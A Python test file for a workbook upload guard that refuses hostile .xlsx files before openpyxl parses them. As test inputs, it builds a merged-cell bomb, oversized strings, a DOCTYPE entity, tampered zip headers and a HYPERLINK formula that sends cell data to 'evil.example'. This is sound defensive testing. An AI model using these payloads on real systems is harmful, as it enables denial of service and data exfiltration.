"""The guard counts what a sheet would make openpyxl build (rows, columns, cells, merges, text, formulas) first."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from commune_desk.services import safe_input
from commune_desk.services.safe_input import RECORDS, PLAN, UnsafeInput, UnsafeWorkbook

MB = 1024 * 1024
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _base() -> dict[str, bytes]:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "Tuyên truyền"
    wb.active.append(["a", "b"])
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


BASE = _base()
SHEET = "xl/worksheets/sheet1.xml"


def _book(sheet_xml: bytes | str, extra: dict[str, bytes] | None = None) -> bytes:
    parts = dict(BASE)
    parts[SHEET] = sheet_xml.encode("utf-8") if isinstance(sheet_xml, str) else sheet_xml
    parts.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return out.getvalue()


def _sheet(data: str = '<row r="1"><c r="A1"><v>1</v></c></row>', after: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>{data}</sheetData>{after}</worksheet>'


def _check(tmp_path, data: bytes, kind=RECORDS):
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    started = time.monotonic()
    try:
        return safe_input.check_workbook_bytes(data, kind, name="book.xlsx")
    finally:
        assert time.monotonic() - started < 5


def test_a_plain_sheet_passes_and_is_counted(tmp_path):
    scan = _check(tmp_path, _book(_sheet()))
    assert (scan.sheets, scan.cells, scan.covered) == (1, 1, 0)


def test_the_merged_cell_bomb_is_refused_before_openpyxl(tmp_path):
    # The attack's workbook: 10 KB, one merged range of 17 billion cells; openpyxl's full mode would build each.
    data = _book(_sheet(after='<mergeCells count="1"><mergeCell ref="H1:XFD1048576"/></mergeCells>'))
    assert len(data) < 10_000
    with pytest.raises(UnsafeWorkbook, match=r"sheet 'Tuyên truyền' is too large: merged range H1:XFD1048576"):
        _check(tmp_path, data, PLAN)
    with pytest.raises(UnsafeWorkbook):
        safe_input.open_workbook_safely(tmp_path / "book.xlsx", PLAN, read_only=False)


def test_many_small_merges_add_up(tmp_path):
    merges = "".join(f'<mergeCell ref="A{r}:CV{r}"/>' for r in range(1, 1000))   # 999 x 100 cells
    with pytest.raises(UnsafeWorkbook, match="merged and linked ranges cover more than 60,000 cells"):
        _check(tmp_path, _book(_sheet(after=f"<mergeCells>{merges}</mergeCells>")), PLAN)


def test_a_hyperlinked_range_counts_like_a_merge(tmp_path):
    with pytest.raises(UnsafeWorkbook, match="hyperlink range A1:IV60000"):
        _check(tmp_path, _book(_sheet(after='<hyperlinks><hyperlink ref="A1:IV60000" display="x"/></hyperlinks>')),
               PLAN)


def test_a_merge_range_is_read_as_the_parser_reads_it(tmp_path):
    # Character references reach openpyxl decoded, and reach the scan decoded too (it is an XML parser as well).
    with pytest.raises(UnsafeWorkbook, match="merged range H1:XFD9 lies outside"):
        _check(tmp_path, _book(_sheet(after='<mergeCells><mergeCell ref="&#72;1:XFD9"/></mergeCells>')))
    # What it cannot read as a range, it refuses (fails closed).
    with pytest.raises(UnsafeWorkbook, match="not a cell range"):
        _check(tmp_path, _book(_sheet(after='<mergeCells><mergeCell ref="A1:B2:C3"/></mergeCells>')))


@pytest.mark.parametrize("cells,match", [
    ('<row r="1"><c r="XFD1"><v>1</v></c></row>', "cell XFD1 lies outside"),
    ('<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "row 1,048,576 lies outside"),
    ('<row r="1"><c r="A1048576"><v>1</v></c></row>', "cell A1048576 lies outside"),
    ('<row r="1"><c r="AAAA1"><v>1</v></c></row>', "not a cell reference"),
    ('<row r="x"><c><v>1</v></c></row>', "row numbered x"),
])
def test_far_cells_and_rows_are_refused(tmp_path, cells, match):
    with pytest.raises(UnsafeWorkbook, match=match):
        _check(tmp_path, _book(_sheet(cells)))


def test_cells_without_references_are_counted_by_position(tmp_path):
    row = "<row>" + "<c><v>1</v></c>" * 300 + "</row>"
    with pytest.raises(UnsafeWorkbook, match="cell R1C257 lies outside"):
        _check(tmp_path, _book(_sheet(row)))


def test_cell_count_is_bounded_across_the_workbook(tmp_path):
    kind = safe_input.FileKind("t", 50 * MB, RECORDS.zip, safe_input.SheetLimits(max_cells=1000), (".xlsx",))
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in "ABCDEFGHIJK") + "</row>"
                   for r in range(1, 100))
    with pytest.raises(UnsafeWorkbook, match="more than 1,000 cells"):
        _check(tmp_path, _book(_sheet(rows)), kind)


def test_a_lying_dimension_does_not_pad_rows(tmp_path):
    # Declared A1:XFD1048576, holds two cells: read-only openpyxl would yield 1 M rows of 16,384 values each.
    data = _book(f'<?xml version="1.0"?><worksheet {NS}><dimension ref="A1:XFD1048576"/><sheetData>'
                 '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c><c r="B1"><v>2</v></c></row>'
                 "</sheetData></worksheet>")
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    wb = safe_input.open_workbook_safely(path, RECORDS)
    try:
        started = time.monotonic()
        rows = list(wb.worksheets[0].iter_rows(values_only=True))
        assert time.monotonic() - started < 1
    finally:
        wb.close()
    assert rows == [("x", 2)]


def test_a_huge_inline_string_is_refused_while_streaming(tmp_path):
    text = "x" * 40_000
    with pytest.raises(UnsafeWorkbook, match="cell A1 holds more than 32,767 characters"):
        _check(tmp_path, _book(_sheet(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>')))


def test_a_huge_shared_string_and_too_many_strings_are_refused(tmp_path):
    sst = (f'<?xml version="1.0"?><sst {NS}><si><t>{"y" * 40_000}</t></si></sst>').encode()
    extra = {"xl/sharedStrings.xml": sst}
    with pytest.raises(UnsafeWorkbook, match="shared text number 1 holds more than 32,767"):
        _check(tmp_path, _book(_sheet(), extra))
    kind = safe_input.FileKind("t", 50 * MB, RECORDS.zip, safe_input.SheetLimits(max_shared_strings=10), (".xlsx",))
    sst = (f'<?xml version="1.0"?><sst {NS}>' + "<si><t>a</t></si>" * 11 + "</sst>").encode()
    with pytest.raises(UnsafeWorkbook, match="more than 10 different texts"):
        _check(tmp_path, _book(_sheet(), {"xl/sharedStrings.xml": sst}), kind)


@pytest.mark.parametrize("cell", [
    '<c r="C5"><f>HYPERLINK("http://evil.example/?"&amp;A1)</f><v>0</v></c>',   # with a cached value
    '<c r="C5"><f>1+1</f></c>',                                                     # without one
    '<c r="C5" t="str"><f t="shared" si="0"/><v>x</v></c>',
])
def test_a_formula_cell_is_refused_with_its_place(tmp_path, cell):
    with pytest.raises(UnsafeWorkbook, match=r"sheet 'Tuyên truyền', cell C5 holds a formula"):
        _check(tmp_path, _book(_sheet(f'<row r="5">{cell}</row>')))


def test_formulas_in_a_plan_are_left_to_the_plan_check(tmp_path):
    scan = _check(tmp_path, _book(_sheet('<row r="5"><c r="C5"><f>1+1</f><v>2</v></c></row>')), PLAN)
    assert scan.formulas == [("Tuyên truyền", "C5")]


def test_a_data_validation_formula_outside_cells_is_no_formula_cell(tmp_path):
    ext = ('<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
           'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           '<x14:dataValidations><x14:dataValidation><x14:formula1>'
           '<xm:f xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">lists!$A$1:$A$9</xm:f>'
           "</x14:formula1></x14:dataValidation></x14:dataValidations></ext></extLst>")
    assert _check(tmp_path, _book(_sheet(after=ext))).formulas == []


def test_prefixed_and_utf16_sheets_are_scanned_too(tmp_path):
    prefixed = ('<?xml version="1.0"?><x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                'main"><x:sheetData><x:row r="2"><x:c r="B2"><x:f>1+1</x:f></x:c></x:row></x:sheetData>'
                "</x:worksheet>")
    with pytest.raises(UnsafeWorkbook, match="cell B2 holds a formula"):
        _check(tmp_path, _book(prefixed))
    utf16 = _sheet('<row r="3"><c r="D3"><f>1+1</f></c></row>').replace('encoding="UTF-8"', 'encoding="UTF-16"')
    with pytest.raises(UnsafeWorkbook, match="cell D3 holds a formula"):
        _check(tmp_path, _book(utf16.encode("utf-16")))


def test_a_doctype_inside_a_sheet_is_refused(tmp_path):
    with pytest.raises(safe_input.UnsafeXml, match="DOCTYPE"):
        _check(tmp_path, _book('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaa">]>'
                               f"<worksheet {NS}><sheetData/></worksheet>"))


def test_oversized_styles_part_is_refused(tmp_path):
    styles = b'<?xml version="1.0"?><styleSheet>' + b" " * (17 * MB) + b"</styleSheet>"
    with pytest.raises(safe_input.UnsafeInput, match="xl/styles.xml"):
        _check(tmp_path, _book(_sheet(), {"xl/styles.xml": styles}))


def test_a_sheet_unpacking_beyond_its_declared_size_is_refused(tmp_path):
    data = bytearray(_book(_sheet()))
    # Lower the declared size of the sheet entry in both headers: zipfile then stops, the CRC check fails.
    name = SHEET.encode()
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        n_len = int.from_bytes(data[at + 28:at + 30], "little")
        if bytes(data[at + 46:at + 46 + n_len]) == name:
            data[at + 24:at + 28] = (10).to_bytes(4, "little")
            local = int.from_bytes(data[at + 42:at + 46], "little")
            data[local + 22:local + 26] = (10).to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 4)
    with pytest.raises(UnsafeInput):
        _check(tmp_path, bytes(data))


def test_many_sheets_are_refused(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    for i in range(70):
        wb.create_sheet(f"s{i}")
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(UnsafeWorkbook, match="71 sheets, more than the 64 allowed"):
        _check(tmp_path, buf.getvalue())


def test_a_genuine_records_export_passes(tmp_path, demo_db):
    from commune_desk.services.records.records_workbook import export_records

    path = tmp_path / "records.xlsx"
    export_records(demo_db, path, include_identities=True)
    scan = safe_input.check_workbook_bytes(path.read_bytes(), RECORDS, name=path.name)
    assert scan.cells > 100 and scan.formulas == []
